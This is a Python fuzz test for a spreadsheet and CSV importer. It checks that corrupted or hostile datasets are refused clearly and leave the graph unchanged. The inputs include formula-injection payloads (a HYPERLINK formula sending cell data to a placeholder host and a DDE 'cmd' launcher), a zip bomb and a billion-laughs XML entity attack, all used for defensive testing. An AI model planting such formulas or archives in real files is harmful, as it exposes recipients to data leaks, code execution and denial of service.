"""Fuzzes the importer with corrupted workbooks and CSV folders against a known graph.

Every case starts from the small dataset, breaks it (random, wrong-typed, huge and formula cells,
invalid UTF-8, empty or missing sheets and headers, duplicate headers, damaged files, a name that
a spreadsheet would run, and in the file itself a zip bomb, an entry lying about its size, an
archive inside, XML entities or a row of too many cells), then runs the import as `covergraph
load` does: read and check the whole dataset, write it in one transaction. Each case ends in a
clear DatasetError (file, and row and column where a cell is at fault) with the graph unchanged,
or in a clean load that holds no name a spreadsheet would run; never in any other exception.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections import Counter
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from neo4j import Driver
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from domain.cells import is_formula
from domain.problems import DatasetError
from domain.tables import TABLES
from services.exchange.exporter import read_graph
from services.exchange.importer import import_dataset
from services.exchange.validation import check
from tests.support.factory import small_dataset, table_rows
from tests.support.fuzz import tally
from tests.support.hostile import BILLION_LAUGHS, bomb, entry, wide_row, zip_bytes
from tests.support.hostile import sheet as sheet_xml

CASES = 60
# Problems about one cell; the others are about a whole file, sheet or header row.
CELL_CODES = {"required", "bad_date", "negative_count", "not_a_count", "count_too_large",
              "too_long", "unknown_enum", "start_after_end", "formula"}  # fmt: skip
# The harms done to the file itself, and the refusal each must end in.
ARCHIVE_HARMS = {"bomb": "entry_lies", "huge": "unpacked_too_large", "nested": "nested_archive",
                 "entities": "xml_entities", "wide": "too_many_columns"}  # fmt: skip
FORMULAS = st.sampled_from(['=HYPERLINK("http://x.example/?"&A1,"点此")', "=1+1", "+1", "-1+2",
                            "@SUM(A1)", "\t=cmd|' /C calc'!A0"])  # fmt: skip
BAD_CELLS = st.one_of(
    st.text(max_size=30),
    st.text(st.characters(codec="utf-8"), min_size=1000, max_size=3000),  # huge text
    st.integers(min_value=-(10**30), max_value=10**30),  # huge and negative numbers
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.dates(min_value=date(1, 1, 1)),
    st.datetimes(min_value=datetime(1900, 1, 1)),
    st.sampled_from(["=1+1", "=SUM(A1:A3)", '=HYPERLINK("http://x","y")', "#DIV/0!", " ", ""]),
    st.none(),
)


class FormulaText(str):
    """A name planted to run as a formula: a workbook stores it as text, as a hostile file would."""


def baseline_tables() -> dict[str, list[list[Any]]]:
    """The small dataset as sheets: a header row, then one list of cells per row."""
    tables = {}
    for table in TABLES:
        names = [c.name for c in table.columns]
        rows = [[row.values.get(n) for n in names] for row in small_dataset().rows(table.name)]
        tables[table.name] = [names, *rows]
    return tables


Case = tuple[str, dict[str, list[list[Any]]], str, bool]


@st.composite
def corrupted(draw: st.DrawFn) -> Case:
    """A dataset broken in one to three ways, the format to write it in, a byte-level harm, and
    whether a name that would run as a formula was planted last."""
    tables = baseline_tables()
    for _ in range(draw(st.integers(1, 3))):
        name = draw(st.sampled_from(sorted(tables)))
        sheet = tables[name]
        if not sheet or not sheet[0]:
            continue
        harm = draw(st.sampled_from(["cell", "cell", "cell", "header", "dup_header",
                                     "empty", "missing", "short_row"]))  # fmt: skip
        if harm == "cell" and len(sheet) > 1:
            # An earlier harm may have cut this row short or lengthened the header.
            cells = sheet[draw(st.integers(1, len(sheet) - 1))]
            if cells:
                cells[draw(st.integers(0, len(cells) - 1))] = draw(BAD_CELLS)
        elif harm == "header":
            sheet[0][draw(st.integers(0, len(sheet[0]) - 1))] = draw(BAD_CELLS)
        elif harm == "dup_header":
            sheet[0].append(sheet[0][0])
        elif harm == "empty":
            tables[name] = draw(st.sampled_from([[], [sheet[0]]]))
        elif harm == "missing":
            del tables[name]
            if not tables:
                break
        elif harm == "short_row" and len(sheet) > 1:
            sheet[-1] = sheet[-1][: draw(st.integers(0, len(sheet[0]) - 1))]
    planted = draw(st.integers(0, 3)) == 0 and _plant_formula(draw, tables)
    fmt = draw(st.sampled_from(["xlsx", "csv"]))
    harms = [*ARCHIVE_HARMS] if fmt == "xlsx" else ["wide"]
    damage = draw(st.sampled_from(["none"] * 6 + ["bad_utf8", "nul", "truncate", *harms]))
    return fmt, tables, damage, planted


def _plant_formula(draw: st.DrawFn, tables: dict[str, list[list[Any]]]) -> bool:
    """Puts a formula into the name of a row that is still whole; tells whether one was put."""
    sheets = [n for n, s in tables.items() if s and "name" in s[0] and len(s) > 1]
    if not sheets:
        return False
    sheet = tables[draw(st.sampled_from(sorted(sheets)))]
    column = sheet[0].index("name")
    rows = [row for row in sheet[1:] if len(row) > column]
    if not rows:
        return False
    draw(st.sampled_from(rows))[column] = FormulaText(draw(FORMULAS))
    return True


def _cell(sheet: Any, value: Any) -> Any:
    if isinstance(value, FormulaText):
        cell = WriteOnlyCell(sheet, str(value))
        cell.data_type = "s"
        return cell
    # Excel has no place for control characters; openpyxl refuses them.
    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value


def write_xlsx(tables: dict[str, list[list[Any]]], path: Path, damage: str) -> None:
    """Writes the sheets; a string starting with = becomes a formula cell, as in Excel, except
    a planted formula, which is a text cell."""
    workbook = openpyxl.Workbook(write_only=True)
    for name, rows in tables.items():
        sheet = workbook.create_sheet(name)
        for row in rows:
            sheet.append([_cell(sheet, v) for v in row])
    if not tables:
        workbook.create_sheet("notes")
    workbook.save(path)
    if damage == "truncate":
        path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    elif damage in ("bad_utf8", "nul"):
        _damage_zip_member(path, b"\xff\xfe\xc3" if damage == "bad_utf8" else b"\x00")
    elif damage in ARCHIVE_HARMS:
        _add_harmful_entry(path, damage)


def _add_harmful_entry(path: Path, harm: str) -> None:
    """Adds an entry that must stop the workbook before any of it is read."""
    with zipfile.ZipFile(path) as source:
        entries = [entry(name, source.read(name)) for name in source.namelist()]
    harmful = {
        "bomb": lambda: bomb("xl/media/image1.png", 64, declared=100),
        "huge": lambda: bomb("xl/media/image1.png", 2100),
        "nested": lambda: entry("xl/embeddings/oleObject1.bin", path.read_bytes()),
        "entities": lambda: entry("xl/sharedStrings.xml", BILLION_LAUGHS + b"<sst/>"),
        "wide": lambda: entry("xl/worksheets/sheet99.xml", sheet_xml(wide_row(1001))),
    }[harm]()
    path.write_bytes(zip_bytes([*entries, harmful]))


def _damage_zip_member(path: Path, junk: bytes) -> None:
    """Puts bytes that are not UTF-8 XML into the first worksheet of a workbook."""
    with zipfile.ZipFile(path) as source:
        members = {n: source.read(n) for n in source.namelist()}
    sheet = next((n for n in members if n.startswith("xl/worksheets/")), None)
    if sheet:
        members[sheet] = members[sheet][:200] + junk + members[sheet][200:]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for name, data in members.items():
            target.writestr(name, data)
    path.write_bytes(buffer.getvalue())


def write_csv(tables: dict[str, list[list[Any]]], folder: Path, damage: str) -> None:
    """Writes one CSV file a table, then damages the first file's bytes."""
    folder.mkdir()
    for name, rows in tables.items():
        text = io.StringIO()
        csv.writer(text, lineterminator="\n").writerows(
            [["" if v is None else str(v) for v in row] for row in rows]
        )
        (folder / f"{name}.csv").write_text(text.getvalue(), encoding="utf-8")
    files = sorted(folder.iterdir())
    if not files or damage == "none":
        return
    if damage == "wide":  # a row of more cells than a ledger could have
        with files[0].open("a", encoding="utf-8") as handle:
            handle.write("x," * 1001 + "\n")
        return
    data = files[0].read_bytes()
    middle = len(data) // 2
    junk = {"bad_utf8": b"\xff\xfe\xc3\x28", "nul": b"\x00", "truncate": b""}[damage]
    files[0].write_bytes(data[:middle] + junk + (data[middle:] if junk else b""))


def _assert_clear(error: DatasetError) -> None:
    """Every problem names its file or sheet, and its row and column when a cell is at fault."""
    assert error.problems, "a DatasetError without problems"
    for problem in error.problems:
        assert problem.source, problem
        if problem.code in CELL_CODES:
            assert problem.line >= 2, problem
            assert problem.column, problem
        for lang in ("zh", "en"):
            message = problem.message(lang)
            assert problem.source in message
            assert "\n" not in message
    assert error.headline("en").startswith("the dataset has ")


def _assert_refused_for_its_harm(
    error: DatasetError, damage: str, planted: bool, counts: Counter[str]
) -> None:
    """A harmful file is refused for its harm, and a planted formula for being one."""
    codes = {p.code for p in error.problems}
    if damage in ARCHIVE_HARMS:
        assert ARCHIVE_HARMS[damage] in codes, error.report("en")
        counts["refused: harmful file"] += 1
    if planted and damage == "none":
        assert "formula" in codes, error.report("en")
        counts["refused: formula planted"] += 1


@pytest.fixture
def known_graph(graph: tuple[Driver, str]) -> tuple[Driver, str, Any]:
    """The small dataset loaded, and its export: what every failed case must leave behind."""
    driver, database = graph
    import_dataset(driver=driver, database=database, dataset=small_dataset())
    return driver, database, table_rows(read_graph(driver=driver, database=database))


def test_corrupted_datasets_are_refused_clearly_or_loaded_cleanly(
    known_graph: tuple[Driver, str, Any], tmp_path_factory: pytest.TempPathFactory
) -> None:
    driver, database, before = known_graph
    counts = tally("importer fuzz")

    @settings(max_examples=CASES, deadline=None, database=None, derandomize=True,
              suppress_health_check=list(HealthCheck))  # fmt: skip
    @given(case=corrupted())
    def run(case: Case) -> None:
        fmt, tables, damage, planted = case
        folder = tmp_path_factory.mktemp("case")
        path = folder / ("ledger.xlsx" if fmt == "xlsx" else "csv")
        (write_xlsx if fmt == "xlsx" else write_csv)(tables, path, damage)
        counts["cases"] += 1
        counts[fmt] += 1
        try:
            dataset = check(path)
        except DatasetError as error:
            _assert_clear(error)
            counts["refused"] += 1
            counts[f"problem {error.problems[0].code}"] += 1
            _assert_refused_for_its_harm(error, damage, planted, counts)
            assert table_rows(read_graph(driver=driver, database=database)) == before
            return
        assert damage not in ARCHIVE_HARMS
        assert not (planted and damage == "none")
        names = [row["name"] for rows in dataset.tables.values() for row in rows]
        assert not any(isinstance(name, str) and is_formula(name) for name in names)
        import_dataset(driver=driver, database=database, dataset=dataset)
        counts["loaded"] += 1
        # Back to the known graph for the next case.
        import_dataset(driver=driver, database=database, dataset=small_dataset(), replace=True)
        assert table_rows(read_graph(driver=driver, database=database)) == before

    run()
    assert counts["cases"] == CASES
    assert counts["refused"] > CASES // 2
    assert counts["refused: harmful file"] > 0
    assert counts["refused: formula planted"] > 0
